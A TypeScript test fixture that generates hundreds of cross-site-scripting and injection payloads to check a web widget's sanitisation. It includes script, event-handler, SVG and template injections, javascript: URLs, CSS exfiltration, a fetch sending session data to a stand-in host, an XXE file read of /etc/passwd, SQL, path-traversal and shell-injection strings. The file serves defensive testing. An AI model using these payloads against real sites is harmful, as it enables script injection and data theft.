// Texts that try to be more than text, made by rule, so that none is forgotten.

import { SENTINEL } from "./watch.ts";

export interface Payload {
  /** Which family it is of, and its place in it. */
  readonly name: string;
  readonly text: string;
}

const RUN = `globalThis.${SENTINEL}=1`;
const HOME = "//hostile.invalid";

/** Spellings of an event handler's value, and of what stands between attributes. */
const QUOTINGS: readonly ((tag: string, event: string) => string)[] = [
  (tag, event) => `<${tag} ${event}="${RUN}">`,
  (tag, event) => `<${tag} ${event}='${RUN}'>`,
  (tag, event) => `<${tag}/${event}=${RUN}>`,
  (tag, event) => `"><${tag}\n${event}\t=\n${RUN}//`,
];
const HANDLERS: readonly (readonly [string, string])[] = [
  ["img src=x", "onerror"],
  [`img src=${HOME}/a.png`, "onload"],
  ["svg", "onload"],
  ["body", "onpageshow"],
  ["input autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["iframe src=about:blank", "onload"],
  ["object data=x", "onerror"],
  ["style", "onload"],
  ["marquee", "onstart"],
  ["button popovertarget=x autofocus", "onbeforetoggle"],
  ["p style='animation:x 1s' id=x", "onanimationend"],
  ["a href=# contenteditable autofocus", "onfocusin"],
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script>${RUN}`,
  `</script><script>${RUN}</script>`,
  `"'--></style></script><script>${RUN}</script>`,
  `<script src=${HOME}/a.js></script>`,
  `<script type=module src="https:${HOME}/a.mjs"></script>`,
  `<script type="importmap">{"imports":{"lit":"https:${HOME}/lit.js"}}</script>`,
  `<script>alert(document.domain)</script>`,
  `<script>confirm(1);prompt(2)</script>`,
  `<script>fetch("https:${HOME}/?"+sessionStorage.length)</script>`,
  `<script>location="https:${HOME}"</script>`,
  `<script>open("https:${HOME}")</script>`,
  `\u003c\u0073cript>${RUN}</script>`,
  `<script\u00a0>${RUN}</script>`,
];

const SVG_AND_MATHML = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script xlink:href="data:,${RUN}" /></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>press</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${RUN}"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><image href="https:${HOME}/a.svg" /></svg>`,
  `<svg><title><![CDATA[</title><script>${RUN}</script>]]></svg>`,
  `<math><maction actiontype="statusline#https:${HOME}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">press</math>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
];

const TEMPLATES = [
  `\${${RUN}}`,
  `\`+(${RUN})+\``,
  `{{constructor.constructor('${RUN}')()}}`,
  `{{${RUN}}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `[[\${${RUN}}]]`,
  `{%- raw -%}{{ ${RUN} }}`,
  `\\u0024{${RUN}}`,
  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  `<slot name="x" onslotchange="${RUN}"></slot>`,
];

const LIT_MARKERS = [
  "<!--?lit$012345678$-->",
  "?lit$012345678$",
  "lit$012345678$",
  "<!--lit-part-->",
  "<!--lit-part AAAA=--><b>x</b><!--/lit-part-->",
  "<!--lit-node 0-->",
  "{{lit-012345678}}",
  `<p $lit$ @click=lit$012345678$>x</p>`,
  `<p .innerHTML="<img src=x onerror=${RUN}>">x</p>`,
  `<p @click=\${()=>{${RUN}}}>x</p>`,
  `<p ?hidden=\${true}>x</p>`,
  `{"_$litType$":1,"strings":["<img src=x onerror=${RUN}>"],"values":[]}`,
  `{"_$litDirective$":{},"values":["<script>${RUN}</script>"]}`,
  `{"__html":"<script>${RUN}</script>"}`,
  `html\`<script>${RUN}</script>\``,
];

const MARKUP_ENDS = [
  "<!--",
  "-->",
  "--!>",
  "<!-- --!> <b>x</b>",
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  "]]>",
  "<?xml version='1.0'?>",
  "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
  "</ask-widget>",
  `</ask-widget><ask-widget endpoint="https:${HOME}" site-key="pk_hostile">`,
  `</template><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</mark></p></section></dialog><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  "<plaintext>",
  "<xmp><b>x</b>",
  `<base href="https:${HOME}/">`,
  `<meta http-equiv="refresh" content="0;url=https:${HOME}/">`,
  `<meta http-equiv="refresh" content="0;javascript:${RUN}">`,
  `<link rel="stylesheet" href="https:${HOME}/a.css">`,
  `<link rel="preload" as="script" href="https:${HOME}/a.js">`,
  `<form action="https:${HOME}"><button autofocus>press</button></form>`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<embed src="javascript:${RUN}">`,
  `<iframe srcdoc="&lt;script&gt;parent.${SENTINEL}=1&lt;/script&gt;"></iframe>`,
  `<a href="javascript:${RUN}">press</a>`,
  `<a ping="https:${HOME}" href="https:${HOME}">press</a>`,
  `<portal src="https:${HOME}">`,
  `<fencedframe src="https:${HOME}">`,
];

const ENTITIES = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;script&#x3E;${RUN}`,
  `&#0000060script&#0000062${RUN}`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `%253Cscript%253E${RUN}`,
  `\\u003cscript\\u003e${RUN}`,
  `\\x3cscript\\x3e${RUN}`,
  `\\74script\\76${RUN}`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\u2039script\u203a${RUN}`,
  `&NewLine;&Tab;&lpar;&rpar;&colon;`,
  `&nbsp;&shy;&zwnj;&#x202e;`,
  `j&#97;v&#97;script&colon;${RUN}`,
];

const STYLES = [
  `</style><style>*{background:url(https:${HOME})}</style>`,
  `<style>@import "https:${HOME}/a.css";</style>`,
  `;background:url(https:${HOME}/a.png);`,
  `}:host{display:none}*{color:red;`,
  `"style="position:fixed;inset:0;background:red`,
  `<p style="background-image:url(https:${HOME}/a.png)">x</p>`,
  `expression(${RUN})`,
  `-moz-binding:url(https:${HOME}/x.xml#x)`,
  `var(--ask-accent);}</style><script>${RUN}</script>`,
  `input[value^="a"]{background:url(https:${HOME}/a)}`,
  `@font-face{font-family:x;src:url(https:${HOME}/x.woff)}`,
  `<div class="panel" part="panel send stop" slot="x" id="question">x</div>`,
];

const NAMES = [
  "__proto__",
  "constructor",
  "prototype",
  "constructor.prototype.x",
  "__proto__[x]=1",
  "hasOwnProperty",
  "toString",
  "valueOf",
  "__defineGetter__",
  "__lookupSetter__",
  "then",
  "toJSON",
  "Symbol.iterator",
  "[object Object]",
  "undefined",
  "null",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "true",
  "[]",
  "{}",
  '{"__proto__":{"x":1}}',
];

const FOOTNOTES_AND_STREAMS = [
  "[1]",
  "[0] [-1] [99] [1e3]",
  `[press](javascript:${RUN})`,
  `![x](https:${HOME}/a.png)`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}`,
  "**bold** _italic_ `code` ~~gone~~",
  `https:${HOME}/autolink`,
  `www.hostile.invalid`,
  'x\n\nevent: error\ndata: {"status":500}\n\n',
  "x\r\n\r\ndata: y\r\n\r\n",
  "data: [DONE]",
  "id: 1\nretry: 0\n: comment",
  `"},{"text":"x","x":"`,
  "x\u2028y\u2029z",
  "'; DROP TABLE documents; --",
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "$(touch /tmp/x)`touch /tmp/x`",
  "=HYPERLINK(\"https://hostile.invalid\")",
];

const DIRECTIONS = ["\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c"];
const INVISIBLE = [
  "\u00ad", "\u034f", "\u115f", "\u180e", "\u200b", "\u200c", "\u200d", "\u2060", "\u2062", "\u206a", "\u3164",
  "\ufeff", "\uffa0", "\ufff9", "\u{e0041}",
];
const CONTROLS = ["\u0001", "\u0007", "\u0008", "\u000b", "\u000c", "\u001b[31m", "\u007f", "\u0085", "\u009b31m"];
const ODD_CHARACTERS = [
  "\ud83d\ude00".repeat(40),
  "👩‍❤️‍💋‍👨 and 🏴󠁧󠁢󠁳󠁣󠁴󠁿",
  `Z${"\u0351\u0347\u0489".repeat(60)}`,
  "\ufffe and \uffff",
  "\u{1ffff} and \u{10ffff}",
  "ﷺ﷽𒐫".repeat(10),
  "İıſK",
  "שלום <b>עולם</b> ١٢٣",
];
const HUGE = [
  "A".repeat(6000),
  "wide ".repeat(1200),
  "<b>".repeat(1500),
  "(".repeat(3000),
  `<img src=x onerror=${RUN}>`.repeat(120),
];

/** Every spelling of an address that is not one to follow. */
export const ADDRESSES: readonly string[] = [
  ...["javascript", "data", "vbscript", "file", "blob", "filesystem", "view-source", "about", "ws", "ftp", "intent"].map(
    (scheme) => `${scheme}:${RUN}`,
  ),
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\tjavascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\rscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `javascript\u200b:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript%3a${RUN}`,
  `%6aavascript:${RUN}`,
  `javascript://www.example.org/%0a${RUN}`,
  `javascript:/*http://www.example.org*/${RUN}`,
  `data:text/html,<script>opener.${SENTINEL}=1</script>`,
  `DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  HOME,
  "\\\\hostile.invalid\\x",
  "/\\hostile.invalid",
  "https:hostile.invalid",
  "https:///",
  "http://",
  "https://[::1",
  "https://exa mple.org/",
  "//",
  "?x",
  "#x",
  "x",
];

/** Texts for every field that holds text; each has the words around it that make it findable. */
export const PAYLOADS: readonly Payload[] = [
  ...family("script", SCRIPTS),
  ...family(
    "handler",
    HANDLERS.flatMap(([tag, event]) => QUOTINGS.map((write) => write(tag, event))),
  ),
  ...family("svg-mathml", SVG_AND_MATHML),
  ...family("template", TEMPLATES),
  ...family("lit", LIT_MARKERS),
  ...family("markup-end", MARKUP_ENDS),
  ...family("entity", ENTITIES),
  ...family("style", STYLES),
  ...family("name", NAMES),
  ...family("footnote-stream", FOOTNOTES_AND_STREAMS),
  ...family("address", ADDRESSES),
  ...family(
    "direction",
    DIRECTIONS.map((mark) => `pay ${mark}001 <b>euros</b>`),
  ),
  ...family(
    "invisible",
    INVISIBLE.map((mark) => `pass${mark}word <i${mark}>`),
  ),
  ...family(
    "control",
    CONTROLS.map((mark) => `bell ${mark} rings`),
  ),
  ...family("odd", ODD_CHARACTERS),
  ...family("huge", HUGE),
];

/** Only JSON can carry these: no file holds half a character. */
export const HALVES: readonly Payload[] = family("surrogate", [
  "\ud800",
  "\udc00",
  "x\ud83dy",
  "\ude00\ud83d",
  "\ud800\ud800\udc00\udc00",
  `\udbff<script>${RUN}</script>`,
]);

function family(name: string, texts: readonly string[]): Payload[] {
  return texts.map((text, place) => ({ name: `${name}-${place + 1}`, text }));
}
